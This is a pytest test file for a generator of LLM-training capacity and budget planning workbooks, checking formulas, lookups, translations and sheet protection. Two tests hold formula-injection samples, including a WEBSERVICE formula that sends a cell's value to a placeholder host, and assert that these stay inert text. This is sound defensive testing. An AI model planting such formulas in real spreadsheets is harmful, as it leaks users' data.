"""The planning workbook's structure: formulas not values, names, lookups, styles, safety.

These tests read the workbook with openpyxl only; tests/workbook/test_workbook_libreoffice.py
recalculates it with a real spreadsheet engine.
"""

from __future__ import annotations

import io
import re
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from compare_cells import sheet
from conftest import INJECTIONS, scenario_with
from openpyxl.workbook.workbook import Workbook
from typer.testing import CliRunner

from xlcompute._graph import INPUT_KEYS, STEPS
from xlcompute.cli import app
from xlcompute.scenario import Scenario, default_scenario
from xlcompute.estimate import estimate
from openpyxl.utils import quote_sheetname

from xlcompute.workbook import REQUIRED_NAMES, SHEETS, build_workbook, write_workbook
from xlcompute.workbook.catalog_sheets import sheet_ref
from xlcompute.workbook.text import input_label, tab_name

ALLOWED_FUNCTIONS = {"ROUNDUP", "ROUND", "MOD", "INT", "MAX", "MIN", "IF", "AND", "OR", "NOT", "SQRT", "LN", "EXP", "NORMSINV", "INDEX", "MATCH",
                     # the Inputs sheet's checks and the reading of "2T" (workbook.input_checks)
                     "ISNUMBER", "COUNTIF", "IFERROR", "TRIM", "LEFT", "RIGHT", "LEN", "VALUE", "FIND", "UPPER",
                     # a Compare column's peak the card lacks at the chosen precision (#N/A, as compare() refuses it)
                     "NA"}
CELL_LIKE = re.compile(r"^[A-Za-z]{1,3}[0-9]+$|^[RrCc]$|^[Rr][0-9]*[Cc][0-9]*$")
VALID_NAME = re.compile(r"^[A-Za-z_\\][A-Za-z0-9_.]*$")


def roundtrip(wb: Workbook) -> Workbook:
    """Save and reload, so the test sees what a spreadsheet would read."""
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    return openpyxl.load_workbook(buf)


def named_cell(wb: Workbook, name: str):  # type: ignore[no-untyped-def]
    dn = wb.defined_names[name]
    (sheet, coord), = list(dn.destinations)
    return wb[sheet][coord.replace("$", "")]


def typed_cell(wb: Workbook, name: str):  # type: ignore[no-untyped-def]
    """The cell a user types an input into: the named cell, or for a count that may be typed as
    "2T" (input_checks.PARSED_KEYS) the cell in column B the named cell reads."""
    cell = named_cell(wb, name)
    return cell.parent[f"B{cell.row}"]


@pytest.fixture(scope="module")
def default_wb() -> Workbook:
    return roundtrip(build_workbook(estimate(default_scenario()), "en"))


def test_sheets_in_order(default_wb: Workbook) -> None:
    assert default_wb.sheetnames == list(SHEETS.values())
    for title in ("Inputs", "Training", "Memory", "Network", "Serving", "Budget", "Sensitivity", "Hardware",
                  "Models", "Formulas"):
        assert title in default_wb.sheetnames


def test_required_and_step_names_are_workbook_scoped(default_wb: Workbook) -> None:
    names = set(default_wb.defined_names.keys())
    for key in (*REQUIRED_NAMES, *INPUT_KEYS, *(s.key for s in STEPS)):
        assert key in names, key
    for ws in default_wb.worksheets:
        assert not ws.defined_names, f"{ws.title} has sheet-scoped names"
    for name in names:
        assert VALID_NAME.match(name) and not CELL_LIKE.match(name), name


def test_every_result_cell_is_a_formula(default_wb: Workbook) -> None:
    for st in STEPS:
        cell = named_cell(default_wb, st.key)
        assert cell.data_type == "f" and str(cell.value).startswith("="), (st.key, cell.value)
        assert cell.protection.locked
    # No number sits in a result column: every value cell of the results table is a formula.
    last_row: dict[str, int] = {}
    for st in STEPS:
        cell = named_cell(default_wb, st.key)
        last_row[cell.parent.title] = max(last_row.get(cell.parent.title, 0), cell.row)
    for title in ("Training", "Memory", "Network", "Serving", "Budget"):
        ws = default_wb[title]
        assert ws.max_row == last_row[title], title  # nothing below the results without the planner
        for row in ws.iter_rows(min_row=5, max_row=last_row[title], min_col=2, max_col=2):
            for c in row:
                if c.value is not None:
                    assert c.data_type == "f", (title, c.coordinate, c.value)


def test_only_portable_functions(default_wb: Workbook) -> None:
    for ws in default_wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type != "f":
                    continue
                text = str(c.value)
                assert ";" not in text, (ws.title, c.coordinate, text)
                used = set(re.findall(r"([A-Z][A-Z0-9.]*)\(", re.sub(r'"[^"]*"', "", text)))
                assert used <= ALLOWED_FUNCTIONS, (ws.title, c.coordinate, used - ALLOWED_FUNCTIONS)


def test_formula_references_named_inputs(default_wb: Workbook) -> None:
    # train_days is the core's formula over named cells, not a number
    text = named_cell(default_wb, "step_train_seconds").value
    assert "train_flops" in text and "parallel_cards" in text and "mfu" in text and "peak_flops" in text
    assert named_cell(default_wb, "train_seconds").value == "=step_train_seconds/MAX(effective_ratio,1E-09)"
    assert named_cell(default_wb, "train_days").value == "=train_seconds/86400"


def test_the_loss_traffic_is_a_live_step(default_wb: Workbook) -> None:
    """The cross-entropy traffic of the output layer (core.kernels.loss_traffic_seconds) is a formula
    of the Step time sheet over the named input loss_traffic_bytes (48, counted, with its source), and
    the output layer's time adds it to the logits GEMM, so the pipeline and MFU formulas see it."""
    loss = named_cell(default_wb, "loss_seconds")
    assert loss.parent.title == "Step time"
    assert loss.value == "=loss_traffic_bytes*tokens_per_microbatch*vocab/tp/(hbm_bytes_per_s*software_efficiency)"
    assert named_cell(default_wb, "logits_seconds").value == "=logits_gemm_seconds+loss_seconds"
    assert named_cell(default_wb, "logits_gemm_seconds").value == "=3*logits_forward_seconds"
    typed = typed_cell(default_wb, "loss_traffic_bytes")
    assert typed.value == 48
    note = typed.parent.cell(row=typed.row, column=4).value
    assert note.startswith("default: counted, not fitted") and "arXiv:2411.09009" in note


def test_inputs_unlocked_with_unit_and_source(default_wb: Workbook) -> None:
    ws = default_wb["Inputs"]
    for key in INPUT_KEYS:
        cell = typed_cell(default_wb, key)
        assert cell.parent.title == "Inputs"
        assert not cell.protection.locked, key
        assert ws.cell(row=cell.row, column=1).value, key  # label
        assert ws.cell(row=cell.row, column=4).value, key  # source note
        assert ws.cell(row=cell.row, column=5).value == key
    assert ws.protection.sheet and not ws.protection.password


def test_preset_cells_look_up_the_catalog(default_wb: Workbook) -> None:
    for key in ("gpu_hbm_gb", "gpu_hbm_tbps", "intra_node_gbs", "gpu_tdp_w"):
        text = named_cell(default_wb, key).value
        assert text.startswith("=INDEX(Hardware!") and "MATCH(gpu_choice,Hardware!$A$" in text, text
    peak = named_cell(default_wb, "gpu_peak_tflops").value
    assert peak.startswith('=IF(precision_choice="fp8",INDEX(Hardware!$D$'), peak
    for key in ("model_params", "model_active_params", "layers", "hidden", "heads", "kv_heads", "head_dim", "vocab"):
        assert "MATCH(model_choice,Models!$A$" in typed_cell(default_wb, key).value, key
    # the default scenario fixes cards_per_node: a number, not a lookup
    assert named_cell(default_wb, "cards_per_node").value == 8
    assert named_cell(default_wb, "gpu_choice").value == "H800"
    assert named_cell(default_wb, "model_choice").value == "llama2-70b"


def test_prices_look_up_the_chosen_card(default_wb: Workbook) -> None:
    """The prices the scenario leaves out follow the accelerator drop-down (issue 14 §2): green
    lookups into the Hardware sheet's price columns, the server price × cards per server, the
    reserved prices a share of the on-demand price."""
    server = named_cell(default_wb, "server_price")
    assert server.value.startswith("=INDEX(Hardware!$O$3:") and "MATCH(gpu_choice,Hardware!$A$3:" in server.value
    assert server.value.endswith(",0))*cards_per_node"), server.value
    assert server.style == "xlcompute lookup" and not server.protection.locked
    assert named_cell(default_wb, "price_per_gpu_hour").value.startswith("=INDEX(Hardware!$P$3:")
    for key, col in (("price_reserved_1y", "Q"), ("price_reserved_3y", "R")):
        formula = named_cell(default_wb, key).value
        assert formula.startswith(f"=INDEX(Hardware!${col}$3:") and formula.endswith("*price_per_gpu_hour"), key
    for key in ("matmul_eff_max", "elementwise_traffic_factor", "flash_attention_efficiency"):
        assert "MATCH(gpu_choice" in named_cell(default_wb, key).value, key  # the card's kernel constants
    hw = default_wb["Hardware"]
    assert hw["O2"].value.endswith("(CNY)") and hw["P2"].value.endswith("(CNY)")
    rows = {hw.cell(row=r, column=1).value: r for r in range(3, hw.max_row + 1)}
    # H20 has a CNY row in prices.yaml (¥150,000 per card slot, ¥6 per card-hour); B200 has none.
    assert (hw[f"O{rows['H20']}"].value, hw[f"P{rows['H20']}"].value) == (150000, 6)
    assert "no CNY price for B200" in hw[f"S{rows['B200']}"].value
    assert hw[f"Q{rows['B200']}"].value == 0.8 and hw[f"R{rows['B200']}"].value == 0.65
    # An AMD card's GEMM constant is the estimate's, carried by its measured matmul ceiling, and W says so.
    from xlcompute.planner.inputs import kernel_profile

    assert hw[f"T{rows['MI300X']}"].value == kernel_profile("MI300X", "cdna3")[0].matmul_eff_max == 0.433  # 0.484 before the H100 refit
    assert "matmul ceiling" in hw[f"W{rows['MI300X']}"].value and "matmul" not in hw[f"W{rows['B200']}"].value


def test_quoted_prices_stay_typed_numbers() -> None:
    """A price the scenario quotes is the typed number (its source says so); the reserved prices it
    leaves out remain a share of that on-demand price, as in the estimate. A USD scenario's
    Hardware sheet carries USD prices (H20 has no USD row: the currency's default, said so)."""
    sc = scenario_with(pricing__server_price=2_000_000, pricing__price_per_card_hour=12.5)
    wb = roundtrip(build_workbook(estimate(sc), "en"))
    for key, value, field in (("server_price", 2_000_000, "server_price"), ("price_per_gpu_hour", 12.5,
                                                                           "price_per_card_hour")):
        cell = named_cell(wb, key)
        assert cell.value == value and cell.style == "xlcompute input", key
        assert cell.parent.cell(row=cell.row, column=4).value.startswith(f"scenario: pricing.{field}"), key
    assert named_cell(wb, "price_reserved_1y").value.endswith(",0))*price_per_gpu_hour")
    usd = roundtrip(build_workbook(estimate(scenario_with(pricing__currency="USD")), "en"))["Hardware"]
    rows = {usd.cell(row=r, column=1).value: r for r in range(3, usd.max_row + 1)}
    assert usd["O2"].value.endswith("(USD)") and usd[f"P{rows['H100-SXM']}"].value == 3.0
    assert usd[f"O{rows['H20']}"].value == 37500 and "no USD price for H20" in usd[f"S{rows['H20']}"].value


def test_results_block_above_the_inputs(default_wb: Workbook) -> None:
    """The results block (issue 14 §4): in the first rows of columns A-D (on screen when the sheet
    opens, frozen with the headers), each value a formula naming a result (never a number), with
    the registry's number format."""
    from xlcompute import registry
    from xlcompute.workbook.text import text

    ws = default_wb["Inputs"]
    assert ws["A3"].value == text("sum_title", "en")
    head = next(r for r in range(4, 30) if ws.cell(row=r, column=1).value == text("col_item", "en"))
    # 14 rows with serving and training: the frozen block and the first inputs still fill one laptop screen
    assert head <= 18 and ws.freeze_panes == f"B{head + 1}"
    # each figure "—" while an input cannot be used (test_results_block_waits_for_usable_inputs)
    wait = '=IF(inputs_unusable>0,"—",'
    block = {"=" + ws.cell(row=r, column=2).value.removeprefix(wait).removesuffix(")"): ws.cell(row=r, column=2)
             for r in range(4, head)}
    assert set(block) == {f"={k}" for k in ("train_days", "deadline_slip_days", "gpu_hours", "mem_per_gpu_gb", "gpu_hbm_gb", "mem_fits",
                                           "capex_total", "total_budget", "npv_own", "npv_rent", "own_cheaper",
                                           "serving_cards", "cost_per_million_tokens", "train_cost")}
    for formula, cell in block.items():
        assert formula[1:] in default_wb.defined_names, formula
        if formula not in ("=mem_fits", "=own_cheaper"):
            assert cell.number_format == registry.excel_format(formula[1:], "CNY"), formula
    assert block["=own_cheaper"].number_format == '[=1]"owning is cheaper";[=0]"renting is cheaper";General'
    zh = sheet(roundtrip(build_workbook(estimate(default_scenario()), "zh")), "inputs")
    assert zh["A3"].value == "结果一览" and zh.cell(row=head - 2, column=2).number_format.startswith('[=1]"自建更省"')
    # A serving fleet has no training run: its block shows the fleet and the money.
    serving = sheet(roundtrip(build_workbook(estimate(scenario_with(training=None)), "en")), "inputs")
    formulas = ["=" + str(serving.cell(row=r, column=2).value).removeprefix(wait).removesuffix(")")
                for r in range(4, 12)]
    assert formulas[:3] == ["=serving_cards", "=cost_per_million_tokens", "=capex_total"]
    assert "=train_days" not in formulas and "=train_cost" not in formulas


def test_drop_downs(default_wb: Workbook) -> None:
    ws = default_wb["Inputs"]
    by_cell = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    gpu = by_cell[named_cell(default_wb, "gpu_choice").coordinate]
    model = by_cell[named_cell(default_wb, "model_choice").coordinate]
    prec = by_cell[named_cell(default_wb, "precision_choice").coordinate]
    assert gpu.type == "list" and gpu.formula1.startswith("Hardware!$A$3:$A$")
    assert model.type == "list" and model.formula1.startswith("Models!$A$3:$A$")
    assert prec.formula1 == '"bf16,fp16,fp8"'


def test_protection_print_setup_and_properties(default_wb: Workbook) -> None:
    assert default_wb.calculation.fullCalcOnLoad
    p = default_wb.properties
    assert p.creator == "xlcompute" and p.title and p.subject and p.keywords
    for ws in default_wb.worksheets:
        assert ws.protection.sheet and not ws.protection.password, ws.title
        assert ws.page_setup.orientation == "landscape", ws.title
        assert str(ws.page_setup.paperSize) == str(ws.PAPERSIZE_A4), ws.title
        assert ws.page_setup.fitToWidth in (1, "1") and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.oddFooter.center.text == "Page &P of &N", ws.title
    assert default_wb["Training"].freeze_panes == "B5"


def test_number_formats(default_wb: Workbook) -> None:
    assert "E+" in named_cell(default_wb, "train_flops").number_format
    assert named_cell(default_wb, "total_budget").number_format == '"¥"#,##0'
    assert "%" in named_cell(default_wb, "mfu").number_format
    assert "#,##0" in named_cell(default_wb, "gpu_hours").number_format
    usd = roundtrip(build_workbook(estimate(scenario_with(pricing__currency="USD")), "en"))
    assert named_cell(usd, "total_budget").number_format == '"$"#,##0'


def test_memory_turns_red_above_hbm(default_wb: Workbook) -> None:
    ws = default_wb["Memory"]
    cell = named_cell(default_wb, "mem_per_gpu_gb")
    rules = [(str(cf.sqref), r) for cf in ws.conditional_formatting for r in cf.rules]
    hits = [r for ref, r in rules if ref == cell.coordinate]
    assert hits and any(f"{cell.coordinate.replace('B', '$B$')}>gpu_hbm_gb" in r.formula[0] for r in hits)
    assert hits[0].dxf.fill.fgColor.rgb.endswith("F8CBAD")


def test_sensitivity_grid_and_charts(default_wb: Workbook) -> None:
    ws = default_wb["Sensitivity"]
    grid = [c for row in ws.iter_rows(min_row=6, max_row=11, min_col=2, max_col=8) for c in row]
    assert grid and all(c.data_type == "f" for c in grid)
    assert "train_flops" in grid[0].value and "$A6" in grid[0].value and "B$5" in grid[0].value
    budget_cells = [c for c in ws["B"] if c.data_type == "f" and "server_price" in str(c.value)
                    and "$A" in str(c.value)]
    assert len(budget_cells) == 6  # one per card count, the core's budget formula over the header
    # Below them, the live tornado (xlcompute.workbook.tornado): one row per uncertain input.
    tornado = [c for c in ws["A"] if c.row > budget_cells[-1].row and c.value and ws.cell(c.row, 2).data_type == "f"]
    assert len(tornado) == 6 and all(ws.cell(c.row, j).data_type == "f" for c in tornado for j in range(2, 10))
    # Headers follow the inputs: card counts are formulas of gpu_count, one MFU column is the input.
    cards = [ws.cell(row=6 + i, column=1) for i in range(6)]
    assert all(c.data_type == "f" and "gpu_count" in c.value and not c.protection.locked for c in cards)
    assert cards[0].value == "=MAX(tp*cp*pp,ROUND(gpu_count*0.25,0)-IF(MOD(gpu_count*0.25,2)=0.5,1,0))"
    assert cards[2].value == "=MAX(tp*cp*pp,ROUND(gpu_count,0))"
    mfus = [ws.cell(row=5, column=2 + j).value for j in range(7)]
    assert mfus[3] == "=MAX(ROUND(mfu,4),0.0001)"  # the default MFU 0.40 is one of the steps: that column
    assert mfus[0] == "=IF(MAX(ROUND(mfu,4),0.0001)=0.25,0.4,0.25)"  # a step the edited MFU lands on shows 0.40


@pytest.mark.parametrize("cards", [1, 2, 3, 5, 6, 7, 125, 1000, 1001, 1002, 2047, 4094])
def test_card_headers_round_like_the_estimate(cards: int) -> None:
    """The header formulas, evaluated with Excel's ROUND (halves away from zero), give exactly
    ``estimate.sensitivity_cards`` (Python's round, halves to even)."""
    from decimal import ROUND_HALF_UP, Decimal

    from xlcompute.estimate import sensitivity_cards
    from xlcompute.workbook.sensitivity import _card_factors, card_header_formula

    def excel(formula: str) -> int:  # the two shapes card_header_formula writes, evaluated as Excel does
        m = re.fullmatch(r"=MAX\(tp\*cp\*pp,ROUND\(gpu_count(?:\*([0-9.]+))?,0\)(-IF\(MOD\(.*\)=0\.5,1,0\))?\)", formula)
        assert m, formula
        x = cards * float(m.group(1) or 1)
        rounded = int(Decimal(repr(x)).quantize(Decimal(1), rounding=ROUND_HALF_UP))
        if m.group(2) and x % 2 == 0.5:
            rounded -= 1
        return max(group, rounded)

    for group in (1, 8, 40):
        wanted = sensitivity_cards(cards, group)
        assert [excel(card_header_formula(f)) for f in _card_factors(cards, wanted, group)] == wanted


def test_planner_block_on_training_sheet() -> None:
    sc = scenario_with(training__tp=None, training__pp=None, assumptions__mfu=None, assumptions__mfu_source=None)
    from xlcompute.estimate import estimate

    result = estimate(sc)
    assert result.plan is not None
    wb = roundtrip(build_workbook(result, "en"))
    ws = sheet(wb, "training")
    last = max(named_cell(wb, st.key).row for st in STEPS if st.sheet == "training")
    titles = {c.value: c.row for c in ws["A"] if isinstance(c.value, str)}
    top = titles["Layout planner (step-time model, seed 004)"]
    assert top > last
    assert any(isinstance(v, str) and v.startswith("static: computed by xlcompute plan") for v in titles)
    evaluated = ws.cell(row=titles["Layouts evaluated"], column=2).value
    assert evaluated == result.plan.candidates_evaluated and evaluated > 100
    head = titles["Layout (rank by time per sequence)"]
    assert [ws.cell(row=head, column=2 + j).value for j in range(5)] == [1, 2, 3, 4, 5]
    block = [c for row in ws.iter_rows(min_row=top, min_col=2, max_col=6) for c in row if c.value is not None]
    assert block and all(c.data_type != "f" for c in block)  # static values, not formulas
    # No defined name points into the block.
    for name, dn in wb.defined_names.items():
        for tab, coord in dn.destinations:
            if tab == "Training":
                assert int(re.sub(r"[^0-9]", "", coord)) <= last, name
    best = result.plan.best[0]
    row_of = {ws.cell(row=r, column=1).value: r for r in range(head + 1, head + 12)}
    assert ws.cell(row=row_of["Tensor parallel (TP)"], column=2).value == best.execution.tp == result["tp"]
    assert ws.cell(row=row_of["Pipeline parallel (PP)"], column=2).value == best.execution.pp == result["pp"]
    assert ws.cell(row=row_of["Predicted MFU"], column=2).value == pytest.approx(result["mfu"], rel=1e-12)
    # Ranked by the job's time per sequence: the batch is rounded to each layout, so a later rank may
    # run a shorter step on a smaller batch (here 992 sequences on TP4·PP4 against 996 on TP4·PP3).
    per_seq = [ws.cell(row=row_of["Step time (s)"], column=2 + j).value
               / ws.cell(row=row_of["Global batch (sequences)"], column=2 + j).value for j in range(5)]
    assert per_seq == sorted(per_seq)
    assert [ws.cell(row=row_of["Global batch (sequences)"], column=2 + j).value for j in range(5)] == [
        x.execution.global_batch for x in result.plan.best[:5]]
    assert "static values" in ws["A2"].value
    # Without inputs/plan the builder resolves the scenario itself and shows the same block.
    again = roundtrip(build_workbook(estimate(sc), "zh"))
    assert sheet(again, "training").cell(row=top, column=1).value == "并行布局规划（单步时间模型，seed 004）"


def test_a_mixture_of_experts_planner_block_shows_ep() -> None:
    """Issue 15: the expert-parallel size of each ranked layout, as the proposal's table shows it."""
    from xlcompute.scenario import load_scenario

    path = Path(__file__).resolve().parents[2] / "workbooks" / "scenarios" / "ascend-910b-2048-deepseek-v2.yaml"
    result = estimate(load_scenario(path))
    assert result.plan is not None and result["ep"] > 1
    ws = sheet(roundtrip(build_workbook(result, "en")), "training")
    row = next(c.row for c in ws["A"] if c.value == "Expert parallel (EP)")
    shown = [ws.cell(row=row, column=2 + j).value for j in range(len(result.plan.best[:5]))]
    assert shown == [x.execution.ep for x in result.plan.best[:5]] and shown[0] == result["ep"]


def test_no_planner_block_when_the_scenario_fixes_layout_and_mfu(default_wb: Workbook) -> None:
    texts = [c.value for c in default_wb["Training"]["A"] if isinstance(c.value, str)]
    assert not any("Layout planner" in t for t in texts)


def test_charts_written() -> None:
    wb = build_workbook(estimate(default_scenario()), "en")
    charts = sheet(wb, "sensitivity")._charts
    assert {type(c).__name__ for c in charts} == {"LineChart", "BarChart"}


def _formula_rows(ws: Any) -> tuple[list[list[Any]], list[list[Any]]]:
    """The Formulas sheet's function rows, and the module-sources rows below them (since issue 13
    part 6 the sheet holds what the proposal's formula appendix printed: function, meaning, source,
    and the sources of each core module)."""
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=5) if r[0].value]
    split = next(i for i, r in enumerate(rows) if str(r[0]).startswith("Sources by module"))
    return rows[:split], rows[split + 1:]


def test_formulas_sheet_lists_every_core_function(default_wb: Workbook) -> None:
    ws = default_wb["Formulas"]
    rows, _modules = _formula_rows(ws)
    functions = {r[0] for r in rows}
    for st in STEPS:
        assert f"{st.fn.__module__.rsplit('.', 1)[-1]}.{st.fn.__name__}" in functions, st.key
    for r in rows:
        assert str(r[2]).startswith("=") and all(r[:5]), r
    for r in ws.iter_rows(min_row=5, min_col=3, max_col=3):
        assert r[0].value is None or r[0].data_type == "s"  # shown as text, never evaluated
    train = next(r for r in rows if r[0] == "compute.train_flops_attn")
    assert "seed 002" in train[4]


def test_formulas_sheet_holds_what_the_proposal_appendix_dropped(default_wb: Workbook) -> None:
    """The proposal's appendix once listed every graph function and the three the report calls
    itself (arith.ratio, arith.product, cost.total_cost) with their docstrings, and each core
    module's sources; the PDF now points to this sheet, so all of it must be here."""
    from xlcompute._docs import module_sources
    from xlcompute.core import arith, cost

    rows, modules = _formula_rows(default_wb["Formulas"])
    by_name = {r[0]: r for r in rows}
    for fn in {st.fn for st in STEPS} | {arith.ratio, arith.product, cost.total_cost}:
        name = f"{fn.__module__.rsplit('.', 1)[-1]}.{fn.__name__}"
        assert name in by_name, name
        assert by_name[name][3], name  # what it computes
    shown = {r[0]: r[3] for r in modules}
    for mod in {st.fn.__module__ for st in STEPS}:
        key = mod.removeprefix("xlcompute.")
        assert key in shown, key
        assert shown[key] == module_sources(sys.modules[mod].__doc__)
    assert "Sources" in shown["core.compute"]


def test_zh_labels_same_formulas() -> None:
    """The Chinese workbook holds the English workbook's formulas, modulo the tab names: its tabs
    are Chinese (issue 14 §7), so a formula naming a sheet (the catalog lookups) names the Chinese
    tab. Mapping each Chinese tab name back to the English one must give identical formula text."""
    en = roundtrip(build_workbook(estimate(default_scenario()), "en"))
    zh = roundtrip(build_workbook(estimate(default_scenario()), "zh"))
    assert zh.sheetnames == [tab_name(key, "zh") for key in SHEETS]
    assert zh.sheetnames[:2] == ["输入", "训练"] and "硬件" in zh.sheetnames and "模型" in zh.sheetnames
    assert en.sheetnames == list(SHEETS.values())
    inputs = zh.worksheets[0]
    assert "工作簿" in inputs["A1"].value and inputs.oddFooter.center.text == "第 &P 页 / 共 &N 页"
    assert named_cell(zh, "train_days").parent.cell(row=named_cell(zh, "train_days").row, column=1).value == "端到端训练时间（含故障、检查点与计划内开销）"
    # Each defined name points at the same cell of the corresponding tab.
    for name, dn in en.defined_names.items():
        (s_en, c_en), = list(dn.destinations)
        (s_zh, c_zh), = list(zh.defined_names[name].destinations)
        assert (en.sheetnames.index(s_en), c_en) == (zh.sheetnames.index(s_zh), c_zh), name
    to_en = {zh_tab: en_tab for en_tab, zh_tab in zip(en.sheetnames, zh.sheetnames)}
    pattern = re.compile("|".join(re.escape(f"{quote_sheetname(t)}!") for t in to_en))

    def in_english(formula: str) -> str:
        return pattern.sub(lambda m: sheet_ref(to_en[m.group(0)[1:-2]]) + "!", formula)

    named_tabs = 0
    for ws_en, ws_zh in zip(en.worksheets, zh.worksheets):
        for row_en, row_zh in zip(ws_en.iter_rows(), ws_zh.iter_rows()):
            for a, b in zip(row_en, row_zh):
                if ws_en.title == "Inputs" and a.column == 6:
                    continue  # the check column: the same tests, messages in the workbook's language
                if a.data_type == "f" or b.data_type == "f":
                    named_tabs += "'硬件'!" in b.value
                    assert "Hardware!" not in b.value and "Models!" not in b.value, (ws_zh.title, b.coordinate)
                    a_f, b_f = a.value, in_english(b.value)
                    # a looked-up input's source, and the Compare sheet's name of the Inputs card's column
                    # (which says when the drop-down holds another card) and its line on a changed training
                    # precision: same formulas, words in its language (and the count of unusable inputs, which
                    # leaves out the notes by their prefix, and the count of problems)
                    if ws_en.title not in ("Inputs", "Compare") and a.coordinate == "A3":  # the line on problems:
                        for f in (a_f, b_f):  # English words a plural
                            assert f.startswith("=IF(inputs_unusable>0,") and "IF(inputs_problems>0," in f
                        continue
                    if (ws_en.title == "Inputs" and (a.column == 4 or a.coordinate in ("H2", "H3"))) or (
                            ws_en.title == "Compare" and (a.row == 5 or a.coordinate == "A3")):
                        a_f, b_f = (re.sub(r'"[^"]*"', '""', f) for f in (a_f, b_f))
                    assert a_f == b_f, (ws_en.title, a.coordinate)
    assert named_tabs >= 10  # the lookups do name the Chinese tab (the mapping is exercised)
    # The drop-down lists name the Chinese catalog tabs too.
    lists = [dv.formula1 for dv in inputs.data_validations.dataValidation if dv.type == "list"]
    assert any(f.startswith("'硬件'!$A$3") for f in lists) and any(f.startswith("'模型'!$A$3") for f in lists), lists


def test_scenario_text_is_never_a_formula(custom_scenario: Scenario) -> None:
    wb = roundtrip(build_workbook(estimate(custom_scenario), "en"))
    found: dict[str, str] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert "HYPERLINK" not in c.value and "cmd|" not in c.value and "SUM(" not in c.value, c.value
                elif isinstance(c.value, str) and c.value in (*INJECTIONS, "@Vendor X*", "=my-model",
                                                               "-measured in-house"):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    found[c.value] = ws.title
    for text in (INJECTIONS[0], INJECTIONS[1], INJECTIONS[2], "@Vendor X*", "=my-model", "-measured in-house"):
        assert text in found, text


def test_an_input_source_the_scenario_gives_is_never_a_formula() -> None:
    """A scenario's own source text (assumptions.mfu_source) is written as text even when it starts with "=":
    only the looked-up inputs' sources are the workbook's own formulas (a user's review found
    =HYPERLINK(…&B16) in the Inputs sheet's source column, live, sending the scenario's name away)."""
    payload = '=WEBSERVICE("http://example.invalid/"&B16)'
    wb = roundtrip(build_workbook(estimate(scenario_with(assumptions__mfu_source=payload)), "en"))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert "WEBSERVICE" not in c.value, (ws.title, c.coordinate)
                elif c.value == payload:
                    assert c.quotePrefix, (ws.title, c.coordinate)
                    found.append((ws.title, c.column))
    assert (sheet(wb, "inputs").title, 4) in found  # the MFU row's source column holds it, as text


def test_custom_accelerator_and_arch_join_the_catalog(custom_scenario: Scenario) -> None:
    wb = roundtrip(build_workbook(estimate(custom_scenario), "en"))
    hw = sheet(wb, "hardware")
    last = max(r for r in range(3, hw.max_row + 1) if hw.cell(row=r, column=1).value)
    # MATCH wildcards (* ? ~) are replaced in the lookup key
    assert hw.cell(row=last, column=1).value == "@Vendor X_"
    assert hw.cell(row=last, column=2).value == "@Vendor X*"
    # columns J, K hold the offload tier (0 = none), M the source
    assert hw.cell(row=last, column=10).value == 0 and hw.cell(row=last, column=11).value == 0
    assert "scenario" in hw.cell(row=last, column=13).value
    assert named_cell(wb, "gpu_choice").value == "@Vendor X_"
    assert named_cell(wb, "precision_choice").value == "fp8"
    models = sheet(wb, "models")
    last = max(r for r in range(3, models.max_row + 1) if models.cell(row=r, column=1).value)
    assert models.cell(row=last, column=1).value == "=my-model"
    assert named_cell(wb, "model_choice").value == "=my-model"
    assert named_cell(wb, "model_choice").data_type == "s"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_unpublished_card_figures_are_live_assumptions(lang: str) -> None:
    """Every catalog card is in the drop-down. A link or TDP the maker does not publish is the
    estimate's flagged assumption as a formula (a blank would read 0 and divide by it): TPU v4's
    link is the scale-out network per card, TPU v5e's TDP TPU v4's per peak FLOP, each row says so."""
    from xlcompute import catalog

    hw = sheet(roundtrip(build_workbook(estimate(default_scenario()), lang)), "hardware")
    rows = {hw.cell(row=r, column=1).value: r for r in range(3, hw.max_row + 1) if hw.cell(row=r, column=1).value}
    assert list(rows) == [g.key for g in catalog.gpus()]
    v4, v5e, c910, b910 = rows["TPUv4"], rows["TPUv5e"], rows["910C"], rows["910B"]
    assert hw[f"G{v4}"].value == "=inter_node_gbps/8" and hw[f"G{c910}"].value == "=inter_node_gbps/8"
    assert hw[f"H{v5e}"].value == f"=$H${v4}*$C${v5e}/$C${v4}"
    assert hw[f"H{c910}"].value == f"=$H${b910}*$C${c910}/$C${b910}"
    assert hw[f"H{v4}"].value == 192 and hw[f"G{rows['H800']}"].value == 200
    word = "TPUv4" if lang == "en" else "TPUv4 的每峰值 FLOP 功耗"
    assert word in hw[f"M{v5e}"].value and "inter_node_gbps / 8" in hw[f"M{v4}"].value
    assert "inter_node_gbps" not in hw[f"M{rows['H800']}"].value


def test_model_override_writes_the_number(override_scenario: Scenario) -> None:
    wb = roundtrip(build_workbook(estimate(override_scenario), "en"))
    assert typed_cell(wb, "model_params").value == 71e9
    assert "MATCH(model_choice" in named_cell(wb, "layers").value
    assert "MATCH(gpu_choice" in named_cell(wb, "cards_per_node").value  # not overridden: looked up


def test_write_is_atomic(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "plan.xlsx"
    target.write_bytes(b"previous")

    def broken_save(wb: Workbook, filename: str, values: object) -> None:
        Path(filename).write_bytes(b"half")
        raise OSError("disk full")

    monkeypatch.setattr("xlcompute.workbook.builder.save_with_values", broken_save)
    with pytest.raises(OSError, match="disk full"):
        write_workbook(estimate(default_scenario()), target)
    assert target.read_bytes() == b"previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_bad_language() -> None:
    with pytest.raises(ValueError, match="lang"):
        build_workbook(estimate(default_scenario()), "fr")


runner = CliRunner()


def test_cli_workbook(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "plan.xlsx"
    res = runner.invoke(app, ["workbook", "-o", str(out), "--lang", "zh"])
    assert res.exit_code == 0, res.output
    assert openpyxl.load_workbook(out)["输入"]["A1"].value.startswith("xlcompute 算力规划工作簿")  # a Chinese tab
